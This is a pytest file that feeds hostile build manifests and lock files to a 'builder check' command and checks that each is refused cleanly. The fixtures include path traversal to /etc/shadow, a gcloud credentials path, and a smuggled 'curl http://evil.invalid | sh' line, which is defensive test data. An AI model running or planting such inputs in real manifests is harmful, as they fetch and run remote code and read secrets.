"""Hostile manifests and locks, run through `builder check` / `builder build` as real processes:
each gives exit 2 naming the file and field, no traceback, no hang, nothing read that lies
outside the manifest's folder (issue 10.7, 10.8, 10.10)."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from stackgate.errors import BadInput
from stackgate.lock.uvlock import read_uv_lock

ROOT = Path(__file__).resolve().parents[2]
SMOKE = (ROOT / "tests/builder/data/smoke.toml").read_text()
HEX64 = re.compile(r"\b[0-9a-f]{64}\b")


def _check(manifest: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "builder", "check", str(manifest)],
        capture_output=True, text=True, timeout=60, cwd=ROOT, check=False,
    )  # fmt: skip


def _manifest(folder: Path, text: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "smoke.toml"
    path.write_text(text)
    return path


def _with_patch(path: str) -> str:
    return SMOKE.replace(
        "[packages.idna]",
        '[packages.patched]\ngit = "https://example.invalid/p.git"\nref = "v1"\n'
        f'patches = [{{ path = "{path}", sha256 = "{"0" * 64}" }}]\n\n[packages.idna]',
    )


def _refused(done: subprocess.CompletedProcess[str], *needles: str) -> None:
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr
    for needle in needles:
        assert needle in done.stderr, done.stderr


def test_patch_outside_the_folder_is_refused_unread(tmp_path: Path) -> None:
    done = _check(_manifest(tmp_path / "stacks", _with_patch("/etc/shadow")))
    _refused(done, "packages.patched.patches.0.path", "relative to the manifest's folder")
    assert not HEX64.search(done.stderr.replace("0" * 64, ""))  # no digest of it was printed
    done = _check(_manifest(tmp_path / "s2", _with_patch("../../../etc/passwd")))
    _refused(done, "packages.patched.patches.0.path", "no '..'")


def test_patch_symlink_leading_out_is_refused(tmp_path: Path) -> None:
    folder = tmp_path / "stacks"
    (folder / "patches").mkdir(parents=True)
    (folder / "patches" / "fix.patch").symlink_to("/etc/passwd")
    done = _check(_manifest(folder, _with_patch("patches/fix.patch")))
    _refused(done, "packages.patched.patches.0.path", "outside the manifest's folder")


def test_sparse_8_gib_patch_and_fifo_patch_are_refused_without_reading(tmp_path: Path) -> None:
    folder = tmp_path / "stacks"
    (folder / "patches").mkdir(parents=True)
    with (folder / "patches" / "huge.patch").open("wb") as handle:
        handle.truncate(8 << 30)  # sparse: no disk used, 8 GiB to read
    done = _check(_manifest(folder, _with_patch("patches/huge.patch")))
    _refused(done, "packages.patched.patches.0.path", "more than the 16 MiB")
    os.mkfifo(folder / "patches" / "pipe.patch")
    done = _check(_manifest(folder, _with_patch("patches/pipe.patch")))  # would block if read
    _refused(done, "packages.patched.patches.0.path", "not a regular file")


def test_correctness_reference_and_subdirectory_must_stay_inside(tmp_path: Path) -> None:
    text = SMOKE.replace(
        "[packages.idna]",
        '[packages.patched]\ngit = "https://example.invalid/p.git"\nref = "v1"\n'
        'subdirectory = "../../elsewhere"\n\n[packages.idna]',
    ) + (
        '\n[serving.p]\nengine = "sglang"\nmodel_path = "/models/m"\n'
        'correctness_reference = "/root/.config/gcloud/credentials.json"\n'
    )
    done = _check(_manifest(tmp_path / "stacks", text))
    _refused(done, "packages.patched.subdirectory", "serving.p.correctness_reference")


def test_control_characters_in_free_text_are_refused_with_the_field(tmp_path: Path) -> None:
    text = SMOKE.replace(
        'description = "Two small PyPI packages, for end-to-end builder tests"',
        'description = "innocent\\nRUN curl http://evil.invalid | sh"',
    ).replace('STACKGATE_SMOKE = "1"', 'STACKGATE_SMOKE = "1\\u0000"')
    done = _check(_manifest(tmp_path / "stacks", text))
    _refused(done, "description: contains a control character (U+000A)",
             "environment.common.STACKGATE_SMOKE: contains a control character (U+0000)")  # fmt: skip


def test_deep_toml_and_infinite_numbers_are_bad_input(tmp_path: Path) -> None:
    deep = SMOKE + "\n[validation.deep]\nx = " + "[" * 5000 + "]" * 5000 + "\n"
    _refused(_check(_manifest(tmp_path / "a", deep)), "nested too deeply")
    inf = SMOKE.replace("[environment.common]", "[build]\nmemory_per_job_gb = inf\n\n"
                        "[environment.common]")  # fmt: skip
    _refused(_check(_manifest(tmp_path / "b", inf)), "build.memory_per_job_gb")


def test_hostile_lock_files_are_bad_input(tmp_path: Path) -> None:
    bad_utf8 = tmp_path / "latin1.lock"
    bad_utf8.write_bytes(b"version = 1\n# caf\xe9\n")
    deep = tmp_path / "deep.lock"
    deep.write_text("version = 1\nx = " + "[" * 5000 + "]" * 5000 + "\n")
    fifo = tmp_path / "fifo.lock"
    os.mkfifo(fifo)
    zero = tmp_path / "zero.lock"
    zero.symlink_to("/dev/zero")
    for path, why in ((bad_utf8, "not UTF-8"), (deep, "nested too deeply"),
                      (fifo, "not a regular file"), (zero, "not a regular file")):  # fmt: skip
        with pytest.raises(BadInput, match=why) as caught:
            read_uv_lock(path)
        assert str(path) in caught.value.message


@pytest.mark.parametrize(
    ("escape", "code"),
    [("\\u202e", "U+202E"), ("\\u2066", "U+2066"), ("\\u200b", "U+200B"), ("\\ufeff", "U+FEFF")],
    ids=["bidi-override", "bidi-isolate", "zero-width-space", "byte-order-mark"],
)
def test_invisible_format_characters_are_refused_too(
    tmp_path: Path, escape: str, code: str
) -> None:
    """Trojan-source characters (bidi overrides, zero-width) make a description, an env value
    or a profile name read differently from what it is; a manifest needs none of them."""
    text = SMOKE.replace(
        'description = "Two small PyPI packages, for end-to-end builder tests"',
        f'description = "Two small {escape}stset rof ,segakcap"',
    )
    done = _check(_manifest(tmp_path / "stacks", text))
    _refused(done, f"description: contains a control character ({code})")


def test_secrets_anywhere_in_a_manifest_are_refused_without_printing_them(tmp_path: Path) -> None:
    """A manifest is committed and copied into locks, images and records: a token in an
    environment variable named like a secret, or a credential URL in any field (not only index
    and git URLs), is refused at check, and the value is never printed."""
    text = SMOKE.replace(
        'STACKGATE_SMOKE = "1"',
        'STACKGATE_SMOKE = "1"\nHF_TOKEN = "hf_s3cr3tvalue"\n'
        'HF_ENDPOINT = "https://bob:pw-s3cr3t@mirror.example/hf"',
    )
    done = _check(_manifest(tmp_path / "stacks", text))
    _refused(done, "environment.common.HF_TOKEN", "environment.common.HF_ENDPOINT")
    assert "s3cr3t" not in done.stdout + done.stderr


def test_ordinary_names_with_token_in_them_are_not_secrets(tmp_path: Path) -> None:
    text = SMOKE.replace('STACKGATE_SMOKE = "1"', 'STACKGATE_SMOKE = "1"\nSGLANG_MAX_TOKENS = "8"')
    done = _check(_manifest(tmp_path / "stacks", text))
    assert done.returncode == 0, done.stderr


@pytest.mark.parametrize("value", ["$PATH:/opt/x", "${LD_LIBRARY_PATH}:/opt/lib", "/a:${HOME"])
def test_an_env_value_referring_to_a_variable_has_no_two_meanings(
    tmp_path: Path, value: str
) -> None:
    """`"$PATH:/opt/x"` was expanded by the image build (ENV) and kept as text by the venv:
    one manifest, two environments. Refused with the field, for every way of writing it; a
    `$` that refers to nothing (a price, a trailing one) stays allowed."""
    text = SMOKE.replace('STACKGATE_SMOKE = "1"', f'STACKGATE_SMOKE = "{value}"')
    done = _check(_manifest(tmp_path / "stacks", text))
    _refused(done, "environment.common", "STACKGATE_SMOKE", "refer to variables")
    ok = SMOKE.replace('STACKGATE_SMOKE = "1"', 'STACKGATE_SMOKE = "costs 5$ or $"')
    assert _check(_manifest(tmp_path / "ok", ok)).returncode == 0
